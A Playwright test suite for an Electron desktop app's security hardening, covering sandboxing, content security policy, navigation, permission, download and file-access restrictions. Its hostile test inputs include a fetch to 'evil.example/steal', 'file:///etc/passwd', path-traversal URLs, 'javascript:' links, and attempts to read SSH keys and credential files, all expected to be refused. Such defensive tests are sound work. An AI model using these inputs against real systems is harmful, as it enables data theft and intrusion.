/**
 * The built main process and preload, run by the stand-in for Electron, with a small page of the test's own
 * that tries what a page may not do.
 */
import { cp, mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { test as base, expect } from '@playwright/test'
import { type StandIn, type StandInOptions, startElectron } from '../electron-stand-in/index.ts'

const built = resolve(import.meta.dirname, '../../dist/electron')

const page = `<!doctype html><html><head><title>Probe</title>
<script>document.title = 'inline ran'</script><script src="/assets/probe.js" type="module"></script>
<style>body { color: rgb(1, 2, 3) }</style></head><body><a id="out" href="https://learn.microsoft.com/x" target="_blank">doc</a></body></html>`

const probe = `document.body.dataset.ran = 'yes'
window.violations = []
document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.violatedDirective))`

/** Of all tests: the program where it is installed, and one window that stays open. */
let folder: string
let running: StandIn
let start: (more?: Partial<StandInOptions>) => Promise<StandIn>

const test = base.extend<{ electron: StandIn }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright wants the pattern
  electron: async ({}, use) => {
    // Nothing is left of what another test did to the page, or made the program do.
    await (await running.page()).reload()
    running.forget()
    await use(running)
  },
})

test.beforeAll(async ({ browser }) => {
  folder = await mkdtemp(join(tmpdir(), 'mailroom-electron-'))
  // Below node_modules, since the test runner would translate anything else that it loads.
  const installation = join(folder, 'node_modules/mailroom')
  await mkdir(join(installation, 'renderer/assets'), { recursive: true })
  await cp(built, join(installation, 'electron'), { recursive: true })
  await writeFile(join(installation, 'package.json'), '{"type":"module"}')
  await writeFile(join(installation, 'renderer/index.html'), page)
  await writeFile(join(installation, 'renderer/assets/probe.js'), probe)
  await writeFile(join(installation, 'renderer/csp.json'), '{"styleHashes":[]}')
  start = (more = {}) =>
    startElectron({
      browser,
      main: join(installation, 'electron/main.js'),
      dataFolder: join(folder, 'data'),
      ...more,
    })
  running = await start()
})
test.afterAll(async () => {
  await running.close()
  await rm(folder, { recursive: true, force: true })
})

type Bridge = {
  call(
    id: string,
    method: string,
    input: unknown,
  ): Promise<{ ok: boolean; value?: unknown; error?: { code: string } }>
  cancel(id: string): void
  onProgress(listener: (id: string, progress: unknown) => void): () => void
  onMenu(listener: (action: string) => void): () => void
  choosePath(purpose: string): Promise<string | null>
  showInFolder(path: string): Promise<void>
  pathOf(file: File): string | null
}
declare global {
  interface Window {
    probe: { mailroom: Bridge }
    violations: string[]
  }
}
const call = (method: string, input: unknown = {}, id = crypto.randomUUID()) => [id, method, input] as const

test.describe('the window', () => {
  test('is made with the page kept apart from Node and Electron', async ({ electron }) => {
    const { options } = electron.windows[0] ?? {}
    expect(options).toMatchObject({
      show: false,
      minWidth: 900,
      minHeight: 600,
      webPreferences: {
        contextIsolation: true,
        sandbox: true,
        nodeIntegration: false,
        nodeIntegrationInWorker: false,
        nodeIntegrationInSubFrames: false,
        webSecurity: true,
        webviewTag: false,
        spellcheck: false,
      },
    })
    expect(electron.sandboxed()).toBe(true)
    expect(electron.windows[0]?.visible).toBe(true)
  })

  test('gives the page seven functions and nothing of Node or Electron', async ({ electron }) => {
    const seen = await (await electron.page()).evaluate(() => ({
      bridge: Object.keys((window as unknown as Window['probe']).mailroom).sort(),
      frozen: Object.isFrozen((window as unknown as Window['probe']).mailroom),
      globals: ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron'].filter(
        (name) => name in window,
      ),
      bindings: Object.keys(window).filter((name) => name.startsWith('electron_')),
    }))
    expect(seen).toEqual({
      bridge: ['call', 'cancel', 'choosePath', 'onMenu', 'onProgress', 'pathOf', 'showInFolder'],
      frozen: true,
      globals: [],
      bindings: [],
    })
  })

  test('keeps the browser’s data apart from the console’s', ({ electron }) => {
    expect(electron.paths.get('userData')).toBe(join(folder, 'data'))
    expect(electron.paths.get('sessionData')).toBe(join(folder, 'data/window'))
  })

  test('opens where it was closed, unless that is on no screen any more', async () => {
    const dataFolder = join(folder, 'moved')
    const first = await start({ dataFolder })
    await first.page()
    first.windows[0]?.moveTo({ x: 50, y: 60, width: 1000, height: 700 })
    await first.close()
    expect((await stat(join(dataFolder, 'window.json'))).isFile()).toBe(true)

    const second = await start({ dataFolder })
    await second.page()
    expect(second.windows[0]?.options).toMatchObject({ x: 50, y: 60, width: 1000, height: 700 })
    second.windows[0]?.moveTo({ x: 3000, y: 60, width: 1000, height: 700 })
    await second.close()

    const third = await start({ dataFolder })
    await third.page()
    expect(third.windows[0]?.options).toMatchObject({ width: 1280, height: 800 })
    expect(third.windows[0]?.options.x).toBeUndefined()
    await third.close()
  })

  test('is the only one: a second start brings the first to the front', async ({ electron }) => {
    const second = await start({ secondInstance: true })
    expect(second.quits()).toBeGreaterThan(0)
    expect(second.windows).toHaveLength(0)
    electron.app.emit('second-instance')
    expect(electron.windows[0]?.focused).toBe(1)
  })

  test('is not opened to a debugger, once it is installed', async () => {
    const opening = [
      'remote-debugging-port',
      'remote-debugging-pipe',
      'inspect',
      'inspect-brk',
      'inspect-port',
    ]
    for (const name of opening) {
      const debugged = await start({ packaged: true, switches: [name] })
      expect(debugged.quits(), name).toBe(1)
      expect(debugged.windows).toHaveLength(0)
      await debugged.close()
    }
    const installed = await start({ packaged: true })
    await installed.page()
    expect(installed.windows[0]?.options).toMatchObject({ webPreferences: { devTools: false } })
    expect(installed.session.allows('devtools://devtools/bundled/inspector.html')).toBe(false)
    await installed.close()
    // From the sources both are there for those who work on it.
    const worked = await start({ switches: ['remote-debugging-port'] })
    await worked.page()
    expect(worked.windows[0]?.options).toMatchObject({ webPreferences: { devTools: true } })
    expect(worked.session.allows('devtools://devtools/bundled/inspector.html')).toBe(true)
    await worked.close()
  })

  test('ends the program when it is closed', async () => {
    const electron = await start({ dataFolder: join(folder, 'closed') })
    await electron.page()
    await electron.windows[0]?.close()
    await expect.poll(() => electron.quits()).toBeGreaterThan(0)
    await electron.close()
  })
})

test.describe('the page', () => {
  test('comes from app://, and its policy stops what is inline', async ({ electron }) => {
    const shown = await electron.page()
    await expect.poll(() => shown.evaluate(() => document.body.dataset['ran'])).toBe('yes')
    expect(electron.windows[0]?.webContents.getURL()).toBe('app://mailroom/')
    expect(await shown.title()).toBe('Probe')
    expect(await shown.evaluate(() => getComputedStyle(document.body).color)).toBe('rgb(0, 0, 0)')
    await shown.evaluate(async () => {
      const script = document.createElement('script')
      script.textContent = 'document.body.dataset.injected = "yes"'
      document.body.append(script)
      const image = new Image()
      image.src = 'https://evil.example/pixel.png'
      await fetch('https://evil.example/steal').catch(() => undefined)
    })
    await expect
      .poll(() => shown.evaluate(() => window.violations))
      .toEqual(expect.arrayContaining(['script-src-elem', 'img-src', 'connect-src']))
    expect(await shown.evaluate(() => document.body.dataset['injected'])).toBeUndefined()
    expect(electron.session.leaked).toEqual([])
  })

  test('has its files and no others', async ({ electron }) => {
    const handler = electron.protocol.handlers.get('app')
    const ask = async (url: string, method = 'GET') => (await handler?.(new Request(url, { method })))?.status
    expect(await ask('app://mailroom/')).toBe(200)
    expect(await ask('app://mailroom/assets/probe.js')).toBe(200)
    expect(await ask('app://mailroom/', 'POST')).toBe(405)
    for (const path of ['csp.json', '../electron/main.js', '..%2felectron%2fmain.js', 'assets/', 'nothing']) {
      expect(await ask(`app://mailroom/${path}`)).toBe(404)
    }
    expect(await ask('app://other/')).toBe(404)
    expect(electron.protocol.privileges.get('app')).toEqual({
      standard: true,
      secure: true,
      supportFetchAPI: true,
      codeCache: true,
    })
  })
})

test.describe('what a page may not do', () => {
  test('leave', async ({ electron }) => {
    const shown = await electron.page()
    let refused = 0
    electron.windows[0]?.webContents.on('will-frame-navigate', (event) => {
      if (event.defaultPrevented()) refused += 1
    })
    for (const [index, url] of [
      'https://evil.example/',
      'https://learn.microsoft.com/',
      'https://app.other.electron.invalid/',
    ].entries()) {
      await shown.evaluate((to) => {
        location.href = to
      }, url)
      await expect.poll(() => refused).toBe(index + 1)
      expect(electron.windows[0]?.webContents.getURL()).toBe('app://mailroom/')
    }
    expect(electron.openedExternally).toEqual([])
  })

  test('stay away from a reload: that is all the navigation there is', async ({ electron }) => {
    const shown = await electron.page()
    await shown.evaluate(() => {
      document.body.dataset['old'] = 'yes'
      location.reload()
    })
    await expect
      .poll(() => shown.evaluate(() => document.body?.dataset['old']).catch(() => 'yes'))
      .toBeUndefined()
    await expect.poll(() => shown.evaluate(() => 'mailroom' in window)).toBe(true)
  })

  test('embed another', async ({ electron }) => {
    const shown = await electron.page()
    await shown.evaluate(() => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    })
    await expect.poll(() => shown.evaluate(() => window.violations)).toContain('frame-src')
    expect(electron.session.leaked).toEqual([])
    const event = { prevented: false, preventDefault: () => (event.prevented = true) }
    electron.windows[0]?.webContents.emit('will-attach-webview', event)
    expect(event.prevented).toBe(true)
  })

  test('open windows; a link of ours goes to the browser, anything else nowhere', async ({ electron }) => {
    const shown = await electron.page()
    await shown.click('#out')
    await expect.poll(() => electron.openedExternally).toEqual(['https://learn.microsoft.com/x'])
    const contents = electron.windows[0]?.webContents
    for (const url of [
      'http://learn.microsoft.com/',
      'https://learn.microsoft.com.evil.example/',
      'https://evil.example/?https://learn.microsoft.com/',
      'https://user@learn.microsoft.com/',
      'https://learn.microsoft.com:8443/',
      'file:///etc/passwd',
      'smb://server/share',
      'javascript:alert(1)',
      'about:blank',
      'app://mailroom/',
      'not a url',
    ]) {
      expect(contents?.openHandler({ url })).toEqual({ action: 'deny' })
    }
    await shown.evaluate(() => void window.open('https://evil.example/'))
    await shown.evaluate(() => void window.open('about:blank'))
    await expect.poll(() => shown.context().pages().length).toBe(1)
    expect(electron.openedExternally).toHaveLength(1)
    expect(electron.windows).toHaveLength(1)
    expect(electron.session.leaked).toEqual([])
  })

  test('ask for devices or rights, copying on a click excepted', async ({ electron }) => {
    const contents = electron.windows[0]?.webContents
    if (contents === undefined) throw new Error('no window')
    const { session } = electron
    for (const right of [
      ...[
        'media',
        'geolocation',
        'notifications',
        'midi',
        'midiSysex',
        'pointerLock',
        'fullscreen',
        'openExternal',
      ],
      ...[
        'clipboard-read',
        'fileSystem',
        'hid',
        'serial',
        'usb',
        'window-management',
        'idle-detection',
        'unknown',
      ],
    ]) {
      expect(session.asksPermission(contents, right)).toBe(false)
      expect(session.permissionCheck?.(contents, right, 'app://mailroom')).toBe(false)
    }
    expect(session.asksPermission(contents, 'clipboard-sanitized-write')).toBe(true)
    expect(session.asksPermission(contents, 'clipboard-sanitized-write', false)).toBe(false)
    expect(session.permissionCheck?.(contents, 'clipboard-sanitized-write', 'app://mailroom/')).toBe(true)
    expect(session.permissionCheck?.(contents, 'clipboard-sanitized-write', 'https://evil.example/')).toBe(
      false,
    )
    expect(session.devicePermission?.({})).toBe(false)
    let streams: object | undefined
    session.displayMedia?.({}, (answer) => (streams = answer))
    expect(streams).toEqual({})
  })

  test('download, a text of its own excepted, which the person is asked about', async ({ electron }) => {
    const shown = await electron.page()
    await shown.evaluate(() => {
      const link = document.createElement('a')
      link.href = URL.createObjectURL(new Blob(['{}'], { type: 'application/json' }))
      link.download = 'report.json'
      link.click()
    })
    await expect
      .poll(() => electron.session.downloads)
      .toMatchObject([{ fileName: 'report.json', outcome: 'asked', defaultPath: 'report.json' }])
    await shown.evaluate(() => {
      const link = document.createElement('a')
      link.href = '/assets/probe.js'
      link.download = 'probe.js'
      link.click()
    })
    await expect.poll(() => electron.session.downloads.at(1)?.outcome).toBe('denied')
  })

  test('make requests to anywhere else, even where its policy were gone', async ({ electron }) => {
    for (const url of [
      'https://learn.microsoft.com/',
      'http://127.0.0.1:8080/',
      'file:///etc/passwd',
      'app://other/x',
      'ws://mailroom/',
      'data:text/html,x',
      'blob:https://evil.example/1',
    ]) {
      expect(electron.session.allows(url)).toBe(false)
    }
    for (const url of ['app://mailroom/assets/probe.js', 'data:image/svg+xml,x', 'blob:app://mailroom/1']) {
      expect(electron.session.allows(url)).toBe(true)
    }
  })

  test('turn a file that is dropped beside its place into a page', async ({ electron }) => {
    const shown = await electron.page()
    const prevented = await shown.evaluate(() =>
      ['dragover', 'drop'].map((type) => {
        const event = new Event(type, { bubbles: true, cancelable: true })
        document.body.dispatchEvent(event)
        return event.defaultPrevented
      }),
    )
    expect(prevented).toEqual([true, true])
  })
})

test.describe('calls', () => {
  test('reach the core and come back as data', async ({ electron }) => {
    const shown = await electron.page()
    const answer = await shown.evaluate(
      ([id, method, input]) => (window as unknown as Window['probe']).mailroom.call(id, method, input),
      call('app.info'),
    )
    expect(answer).toMatchObject({ ok: true, value: { host: 'electron' } })
  })

  test('are parsed by the contract', async ({ electron }) => {
    const shown = await electron.page()
    const codeOf = async (id: unknown, method: unknown, input: unknown) =>
      shown.evaluate(
        async ([a, b, c]) => {
          const answer = await (window as unknown as Window['probe']).mailroom.call(
            a as string,
            b as string,
            c,
          )
          return answer.error?.code
        },
        [id, method, input] as const,
      )
    expect(await codeOf('1', 'no.such', {})).toBe('METHOD_UNKNOWN')
    expect(await codeOf('1', '__proto__', {})).toBe('METHOD_UNKNOWN')
    expect(await codeOf('1', 'environments.open', { id: 7 })).toBe('INPUT_INVALID')
    expect(await codeOf('1', 'app.info', { extra: 1 })).toBe('INPUT_INVALID')
    expect(await codeOf('1', 7, {})).toBe('INPUT_INVALID')
    expect(await codeOf({}, 'app.info', {})).toBe('INPUT_INVALID')
    expect(await codeOf('x'.repeat(65), 'app.info', {})).toBe('INPUT_INVALID')
  })

  test('open what is a settings file by its name or by a person’s word, and nothing else', async ({
    electron,
  }) => {
    const shown = await electron.page()
    const ask = (method: string, input: unknown) =>
      shown.evaluate(
        ([id, name, value]) => (window as unknown as Window['probe']).mailroom.call(id, name, value),
        call(method, input),
      )
    const refused = { ok: false, error: { code: 'NOT_SUPPORTED_HERE' } }
    const secret = join(folder, 'id_ed25519')
    const startup = join(folder, '.bash_aliases')
    const report = join(folder, 'credentials')
    await writeFile(secret, 'PRIVATE-KEY=canary')
    await writeFile(report, '{"auth":"canary"}')
    const sha256 = 'a'.repeat(64)
    for (const [method, input] of [
      ['files.view', { path: secret }],
      ['files.view', { path: '~/.ssh/id_ed25519' }],
      ['files.verify', { path: secret, sha256 }],
      ['diagnosis.run', { path: secret, settings: 'file', checks: ['url'] }],
      ['environments.add', { name: 'x', path: startup }],
      ['environments.add', { name: 'x', path: join(folder, 'x.properties'), options: { path: startup } }],
      ['recent.noteReport', { name: 'x', path: report }],
    ] as const) {
      const answer = await ask(method, input)
      expect(answer, method).toMatchObject(refused)
      expect(JSON.stringify(answer)).not.toContain('canary')
    }
    expect(await ask('environments.list', {})).toMatchObject({ ok: true, value: [] })
    // A certificate that was chosen, and a report that was noted, are still no settings files.
    electron.dialogAnswers.push(secret)
    await shown.evaluate(() => (window as unknown as Window['probe']).mailroom.choosePath('certificates'))
    expect(await ask('files.view', { path: secret })).toMatchObject(refused)
    const json = join(folder, 'config.json')
    await writeFile(json, '{"auth":"canary"}')
    expect(await ask('recent.noteReport', { name: 'x', path: json })).toMatchObject({ ok: true })
    expect(await ask('files.view', { path: json })).toMatchObject(refused)
    expect(JSON.stringify(await ask('recent.openReport', { path: json }))).not.toContain('canary')
    // Every refusal of a settings file came after a question that names it.
    expect(electron.questions.every((question) => question.startsWith('Open this file'))).toBe(true)
    expect(electron.questions.some((question) => question.includes(startup))).toBe(true)

    const chosen = join(folder, 'mail.conf')
    const dropped = join(folder, 'dropped.conf')
    for (const path of [chosen, dropped]) await writeFile(path, 'mail.smtp.host=mail.example.com\n')
    electron.dialogAnswers.push(chosen)
    await shown.evaluate(() => (window as unknown as Window['probe']).mailroom.choosePath('settings-open'))
    const asked = electron.questions.length
    expect(await ask('files.view', { path: chosen })).toMatchObject({ ok: true })
    expect(electron.questions).toHaveLength(asked)
    electron.answerWith(1)
    expect(await ask('environments.add', { name: 'Dropped', path: dropped })).toMatchObject({ ok: true })
    expect(electron.questions).toHaveLength(asked + 1)

    // The store remembers it for the next start.
    const next = await start()
    const later = await next.page()
    const answer = await later.evaluate(
      ([id, name, value]) => (window as unknown as Window['probe']).mailroom.call(id, name, value),
      call('files.view', { path: dropped }),
    )
    expect(answer).toMatchObject({ ok: true })
    expect(next.questions).toEqual([])
    await next.close()
  })

  test('tell progress, and end when they are cancelled', async ({ electron }) => {
    const shown = await electron.page()
    const file = join(folder, 'mail.properties')
    await writeFile(file, 'mail.smtp.host=one.example\n')
    const added = (await shown.evaluate(
      ([id, method, input]) => (window as unknown as Window['probe']).mailroom.call(id, method, input),
      call('environments.add', { name: 'One', path: file }),
    )) as { value: { record: { id: string } } }
    await shown.evaluate((id) => {
      const { mailroom } = window as unknown as Window['probe']
      const seen: string[] = []
      Object.assign(window, { seen })
      mailroom.onProgress((run) => seen.push(run))
      const ended = mailroom.call('watch-1', 'environments.watch', { id })
      Object.assign(window, { ended })
    }, added.value.record.id)
    await expect
      .poll(async () => {
        await writeFile(file, `mail.smtp.host=two.example\n# ${Date.now()}\n`)
        return shown.evaluate(() => (window as unknown as { seen: string[] }).seen)
      })
      .toContain('watch-1')
    const answer = await shown.evaluate(async () => {
      ;(window as unknown as Window['probe']).mailroom.cancel('watch-1')
      return (window as unknown as { ended: Promise<unknown> }).ended
    })
    expect(answer).toHaveProperty('ok')
  })

  test('are taken from the page’s own top frame alone', async ({ electron }) => {
    const contents = electron.windows[0]?.webContents
    if (contents === undefined) throw new Error('no window')
    const values = ['1', 'app.info', {}]
    const { mainFrame } = contents
    const refused = { ok: false, error: { code: 'NOT_SUPPORTED_HERE' } }
    const ask = (frame: typeof mainFrame | null) =>
      contents.receiveAs('invoke', 'mailroom:call', values, frame)
    expect(await ask(mainFrame)).toMatchObject({ ok: true })
    expect(await ask(null)).toMatchObject(refused)
    expect(await ask({ parent: mainFrame, url: 'app://mailroom/' })).toMatchObject(refused)
    // The top frame, after another page came in its place.
    expect(await ask({ parent: null, url: 'https://evil.example/' })).toMatchObject(refused)
    const choose = (frame: typeof mainFrame | null) =>
      contents.receiveAs('invoke', 'mailroom:choose-path', ['settings-open'], frame)
    electron.dialogAnswers.push('/srv/mail.properties')
    expect(await choose(null)).toBeNull()
    expect(electron.dialogs).toHaveLength(0)
    expect(await choose(mainFrame)).toBe('/srv/mail.properties')
    await contents.receiveAs('invoke', 'mailroom:show-in-folder', ['/srv/x'], null)
    expect(electron.shownInFolder).toEqual([])
  })
})

test.describe('the desktop', () => {
  test('has a menu with the page’s shortcuts', async ({ electron }) => {
    const shown = await electron.page()
    await shown.evaluate(() => {
      const actions: string[] = []
      Object.assign(window, { actions })
      ;(window as unknown as Window['probe']).mailroom.onMenu((action) => actions.push(action))
    })
    for (const label of ['Email', 'Diagnose', 'Server file', 'History', 'Test', 'Update…', 'All actions…']) {
      electron.clickMenu(label)
    }
    await expect
      .poll(() => shown.evaluate(() => (window as unknown as { actions: string[] }).actions))
      .toEqual(['email', 'diagnose', 'server-file', 'history', 'test', 'update', 'palette'])
    expect(JSON.stringify(electron.menu())).not.toMatch(/toggleDevTools|reload/i)
  })

  test('has dialogs for files, and remembers settings files alone', async ({ electron }) => {
    const shown = await electron.page()
    const choose = (purpose: string) =>
      shown.evaluate((which) => (window as unknown as Window['probe']).mailroom.choosePath(which), purpose)
    expect(await choose('settings-open')).toBeNull()
    electron.dialogAnswers.push('/srv/mail.properties', '/srv/new.properties', '/srv/ca.pem')
    expect(await choose('settings-open')).toBe('/srv/mail.properties')
    expect(await choose('settings-new')).toBe('/srv/new.properties')
    expect(await choose('certificates')).toBe('/srv/ca.pem')
    expect(await choose('/etc/passwd')).toBeNull()
    expect(electron.dialogs.map(({ kind }) => kind)).toEqual(['open', 'open', 'save', 'open'])
    expect(electron.recentDocuments).toEqual(['/srv/mail.properties'])
  })

  test('shows a settings file in its folder, never one of another computer or kind', async ({ electron }) => {
    const shown = await electron.page()
    for (const path of [
      '/srv/mail.properties',
      '/srv/start.sh',
      '//server/share/x.properties',
      '\\\\server\\share\\x.properties',
      'relative.properties',
      '',
    ]) {
      await shown.evaluate(
        (which) => (window as unknown as Window['probe']).mailroom.showInFolder(which),
        path,
      )
    }
    expect(electron.shownInFolder).toEqual(['/srv/mail.properties'])
  })

  test('has the clipboard at the right mouse button, where it can do something', async ({ electron }) => {
    const contents = electron.windows[0]?.webContents
    const editFlags = { canCut: true, canCopy: true, canPaste: false }
    contents?.emit('context-menu', {}, { isEditable: false, selectionText: ' ', editFlags })
    expect(electron.popups).toEqual([])
    contents?.emit('context-menu', {}, { isEditable: false, selectionText: '535', editFlags })
    contents?.emit('context-menu', {}, { isEditable: true, selectionText: '', editFlags })
    const roles = electron.popups.map((items) => items.flatMap(({ role }) => role ?? []))
    expect(roles).toEqual([['copy'], ['undo', 'redo', 'cut', 'copy', 'paste', 'selectAll']])
  })

  test('asks before a window goes that is not done yet', async ({ electron }) => {
    const contents = electron.windows[0]?.webContents
    const leaving = () => {
      const event = { left: false, preventDefault: () => (event.left = true) }
      contents?.emit('will-prevent-unload', event)
      return event.left
    }
    expect(leaving()).toBe(false)
    electron.answerWith(1)
    expect(leaving()).toBe(true)
    expect(electron.questions).toHaveLength(2)
  })

  test('tells where a dropped file lies', async ({ electron }) => {
    const path = await (await electron.page()).evaluate(() =>
      (window as unknown as Window['probe']).mailroom.pathOf(new File(['x'], 'mail.properties')),
    )
    expect(path).toBe('/dropped/mail.properties')
  })
})

test('the preload is one file that loads nothing but electron', async () => {
  const source = await readFile(join(built, 'preload.cjs'), 'utf8')
  const required = [...source.matchAll(/require\(\s*["'`]([^"'`]+)["'`]\s*\)/g)].map((match) => match[1])
  expect(required).toEqual(['electron'])
  expect(source).not.toMatch(/\bimport\s*\(/)
})
